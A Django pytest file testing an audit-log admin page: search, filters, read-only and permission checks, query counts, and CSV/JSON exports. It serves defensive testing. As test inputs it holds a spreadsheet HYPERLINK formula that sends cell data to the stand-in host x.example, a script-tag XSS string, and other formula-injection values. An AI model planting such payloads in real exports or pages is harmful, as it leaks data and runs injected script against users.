"""The log in the admin is there to be read."""

from __future__ import annotations

import csv
import json
import re
from datetime import UTC, datetime
from io import StringIO
from typing import Any
from urllib.parse import urlencode
from uuid import UUID

import pytest
from django.contrib.auth.models import Permission
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from accounts.models import User
from audit import Event, record
from audit.context import Context, active
from audit.models import AuditEvent
from tests.audit.flush import lifted
from tests.files.test_models import filed

LIST = "admin:audit_auditevent_changelist"
CHANGE = "admin:audit_auditevent_change"
DELETE = "admin:audit_auditevent_delete"
FILE = UUID("6d5fe6b4-9c1f-4a53-8f1d-0f3a7f9d2c11")


@pytest.fixture
def event(root: User, admin_session: Client) -> AuditEvent:
    return record(Event.GRANT_REVOKED, actor=root, file_id=FILE, grant_id=12)


@pytest.fixture
def admin_session(client: Client, root: User) -> Client:
    client.force_login(root)
    return client


def listed(client: Client, **query: str) -> list[int]:
    response = client.get(reverse(LIST), query)
    assert response.status_code == 200
    return [event.id for event in response.context["cl"].result_list]


@pytest.mark.usefixtures("real_sign_in")
def test_events_are_listed_newest_first(event: AuditEvent, admin_session: Client) -> None:
    assert listed(admin_session) == [event.id, event.id - 1]  # The other one is the sign-in.


def test_events_are_filtered_by_name(event: AuditEvent, admin_session: Client) -> None:
    assert listed(admin_session, event="grant_revoked") == [event.id]
    assert listed(admin_session, event="swept") == []


@pytest.mark.parametrize("query", ["root", "ROOT", str(FILE), FILE.hex])
def test_events_are_found(event: AuditEvent, admin_session: Client, query: str) -> None:
    assert event.id in listed(admin_session, q=query)


@pytest.mark.parametrize("query", ["roo", "nobody", "%", "6d5fe6b4"])
def test_others_are_not_found(event: AuditEvent, admin_session: Client, query: str) -> None:
    assert listed(admin_session, q=query) == []


@pytest.mark.usefixtures("real_sign_in")
def test_an_event_of_a_later_version_is_shown(admin_session: Client) -> None:
    last = AuditEvent.objects.latest("id")
    AuditEvent.objects.create(
        id=last.id + 1, at=last.at, event="moon_landed", data={}, previous_mac=last.mac, mac=""
    )
    assert b"Moon landed" in admin_session.get(reverse(LIST)).content


def test_an_event_is_shown_and_not_changed(event: AuditEvent, admin_session: Client) -> None:
    page = reverse(CHANGE, args=[event.id])
    shown = admin_session.get(page)
    assert shown.status_code == 200
    assert b'name="_save"' not in shown.content
    assert admin_session.post(page, {"actor_name": "somebody"}).status_code == 403


def test_events_are_neither_added_nor_deleted(event: AuditEvent, admin_session: Client) -> None:
    assert admin_session.get(reverse("admin:audit_auditevent_add")).status_code == 403
    assert admin_session.post(reverse(DELETE, args=[event.id]), {"post": "yes"}).status_code == 403
    admin_session.post(
        reverse(LIST), {"action": "delete_selected", "_selected_action": [event.id], "post": "yes"}
    )
    assert AuditEvent.objects.filter(id=event.id).exists()


def test_staff_need_the_permission(client: Client, alice: User) -> None:
    alice.is_staff = True
    alice.save()
    client.force_login(alice)
    assert client.get(reverse(LIST)).status_code == 403
    alice.user_permissions.add(Permission.objects.get(codename="view_auditevent"))
    assert client.get(reverse(LIST)).status_code == 200


# --- Filters --------------------------------------------------------------------------------------


@pytest.fixture
def several(root: User, alice: User, admin_session: Client) -> dict[str, int]:
    """Events that differ in everything that a filter asks for, by what is particular about each."""
    made = {
        "of alice": record(Event.GRANT_REVOKED, actor=alice),
        "of the file": record(Event.FILE_DELETED, actor=root, file_id=FILE),
        "aborted": record(Event.FILE_DOWNLOADED, actor=root, outcome="aborted"),
        "complete": record(Event.FILE_DOWNLOADED, actor=root, outcome="complete"),
    }
    with lifted():
        old = datetime(2026, 1, 31, 23, 30, tzinfo=UTC)
        AuditEvent.objects.filter(id=made["of alice"].id).update(at=old)
    return {name: event.id for name, event in made.items()}


@pytest.mark.parametrize(
    ("query", "found"),
    [
        ({"user": "alice"}, {"of alice"}),
        ({"user": " alice "}, {"of alice"}),
        ({"user": "ali"}, set()),
        ({"user": "a\0"}, set()),
        ({"file": str(FILE)}, {"of the file"}),
        ({"file": FILE.hex}, {"of the file"}),
        ({"file": "no file"}, set()),
        ({"outcome": "aborted"}, {"aborted"}),
        ({"outcome": "complete", "event": "file_downloaded"}, {"complete"}),
        ({"outcome": "complete", "event": "file_deleted"}, set()),
        ({"to": "2026-01-31"}, {"of alice"}),
        ({"from": "2026-01-31", "to": "2026-01-31"}, {"of alice"}),
        ({"to": "2026-01-30"}, set()),
        ({"from": "2026-02-01", "outcome": "aborted"}, {"aborted"}),
        ({"from": "2026-02-30"}, set()),
        ({"from": "yesterday"}, set()),
        ({"to": "9999-12-31", "user": "alice"}, set()),
    ],
)
def test_filters(
    several: dict[str, int], admin_session: Client, query: dict[str, str], found: set[str]
) -> None:
    assert {name for name, pk in several.items() if pk in listed(admin_session, **query)} == found


def test_filters_that_are_typed_keep_the_others(
    several: dict[str, int], admin_session: Client
) -> None:
    page = admin_session.get(reverse(LIST), {"event": "grant_revoked", "user": "alice", "q": "x"})
    assert '<input type="hidden" name="event" value="grant_revoked">' in page.text
    assert '<input type="hidden" name="q" value="x">' in page.text
    assert 'name="user" value="alice"' in page.text


def test_what_is_typed_is_escaped(admin_session: Client) -> None:
    page = admin_session.get(reverse(LIST), {"user": '"><script>alert(1)</script>'})
    assert "<script>alert" not in page.text


def test_a_file_leads_to_its_events(
    client: Client, alice: User, event: AuditEvent, admin_session: Client
) -> None:
    filed_one = filed(alice)
    page = admin_session.get(f"/admin/files/filerecord/{filed_one.pk}/change/")
    assert f"{reverse(LIST)}?file={filed_one.pk}" in page.text


def test_the_number_of_queries_is_fixed(admin_session: Client, root: User) -> None:
    record(Event.FILE_DOWNLOADED, actor=root, file_id=FILE, outcome="complete")
    admin_session.get(reverse(LIST))
    counts = []
    for _ in range(3):
        with CaptureQueriesContext(connection) as captured:
            admin_session.get(reverse(LIST))
        counts.append(len(captured))
        for _more in range(10):
            record(Event.FILE_DOWNLOADED, actor=root, file_id=FILE, outcome="complete")
    assert len(set(counts)) == 1


# --- Exports --------------------------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://x.example/?"&A1)'


def exported(client: Client, form: str, **query: str) -> Any:
    address = f"{reverse('admin:audit_auditevent_export')}?{urlencode(query)}"
    return client.post(address, {"format": form})


def as_rows(response: Any) -> list[dict[str, str]]:
    text = response.getvalue().decode()
    response.close()
    return list(csv.DictReader(StringIO(text, newline="")))


def test_a_csv_of_what_matches(several: dict[str, int], admin_session: Client) -> None:
    response = exported(admin_session, "csv", event="file_downloaded")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert re.fullmatch(
        r'attachment; filename="audit-\d{4}-\d\d-\d\d\.csv"', response["Content-Disposition"]
    )
    rows = as_rows(response)
    assert [int(row["id"]) for row in rows] == [several["aborted"], several["complete"]]
    assert json.loads(rows[0]["data"]) == {"outcome": "aborted"}
    assert rows[0]["mac"] == AuditEvent.objects.get(id=several["aborted"]).mac


def test_a_json_of_what_matches(several: dict[str, int], admin_session: Client) -> None:
    response = exported(admin_session, "json", file=str(FILE))
    assert response["Content-Type"] == "application/json"
    [entry] = json.loads(response.getvalue())
    assert (entry["id"], entry["file_id"]) == (several["of the file"], str(FILE))
    assert json.loads(exported(admin_session, "json", user="nobody").getvalue()) == []
    assert len(json.loads(exported(admin_session, "json").getvalue())) >= 5


def test_no_cell_is_a_formula(root: User, admin_session: Client) -> None:
    around = Context(user_agent=FORMULA, actor_name="@SUM(1)", address="192.0.2.7")
    with active(around):
        event = record(Event.SWEPT, note=FORMULA, other="\t=1+1")
    [row] = [row for row in as_rows(exported(admin_session, "csv")) if row["id"] == str(event.id)]
    assert row["user_agent"] == "'" + FORMULA
    assert row["actor_name"] == "'@SUM(1)"
    assert not any(value[:1] in {"=", "+", "-", "@", "\t", "\r"} for value in row.values())


def test_selected_events_are_exported(several: dict[str, int], admin_session: Client) -> None:
    for action in ("export_csv", "export_json"):
        response = admin_session.post(
            reverse(LIST), {"action": action, "_selected_action": [several["complete"]]}
        )
        text = response.getvalue().decode()
        assert '"complete"' in text.replace('""', '"')
        assert '"aborted"' not in text.replace('""', '"')


def test_an_export_is_an_event_and_not_in_itself(
    several: dict[str, int], admin_session: Client
) -> None:
    rows = as_rows(exported(admin_session, "csv", event="audit_exported"))
    assert rows == []
    event = AuditEvent.objects.get(event="audit_exported")
    assert event.actor_name == "root"
    assert event.data == {"format": "csv", "chosen_by": "event=audit_exported"}


def test_an_export_takes_one_query_for_all_rows(
    several: dict[str, int], admin_session: Client
) -> None:
    counts = []
    for _ in range(2):
        with CaptureQueriesContext(connection) as captured:
            as_rows(exported(admin_session, "csv"))
        counts.append(len(captured))
        for _more in range(30):
            record(Event.SWEPT)
    assert counts[0] == counts[1]


def test_exports_are_refused(several: dict[str, int], client: Client, alice: User) -> None:
    address = reverse("admin:audit_auditevent_export")
    assert client.get(address).status_code == 405
    assert client.post(address, {"format": "exe"}).status_code == 404
    assert client.post(f"{address}?at__bad=1", {"format": "csv"}).status_code in {400, 404}
    User.objects.filter(pk=alice.pk).update(is_staff=True)
    client.force_login(alice)
    assert client.post(address, {"format": "csv"}).status_code == 403
    strict = Client(enforce_csrf_checks=True)
    alice.user_permissions.add(Permission.objects.get(codename="view_auditevent"))
    strict.force_login(alice)
    assert strict.post(address, {"format": "csv"}).status_code == 403
    assert not AuditEvent.objects.filter(event="audit_exported").exists()
